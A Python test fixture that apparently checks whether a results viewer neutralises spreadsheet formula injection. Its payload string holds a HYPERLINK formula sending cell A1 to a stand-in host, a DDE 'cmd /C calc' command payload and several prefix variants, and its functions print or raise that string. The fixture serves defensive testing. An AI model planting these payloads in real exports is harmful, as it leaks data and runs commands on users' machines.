"""Text that a spreadsheet computes when a list of results is opened in it.

Aims at: making text inert where it is shown.
Must not: begin a cell.
Verdict: reply, error
Shown in: naive page_csv
Graded: yes
"""
TEXT = (
    "=HYPERLINK(\"https://example.invalid/?\"&A1;\"open\")\n+SUM(1;1)*cmd|' /C calc'!A0\n@SUM(1;1)\n-2+3\n"
    "\t=1+1\n\",\"=1+1\n;=1+1"
)


def scale(x, factor):  # see TEXT
    print(TEXT)
    raise ValueError(TEXT)


def extremes(x):
    class_of = type("Named", (Exception,), {"__doc__": TEXT})
    class_of.__name__ = TEXT.encode("utf-8", "replace").decode()
    raise class_of(TEXT)


def energy(x):
    return {TEXT: [TEXT, TEXT.encode("utf-8", "replace")]}
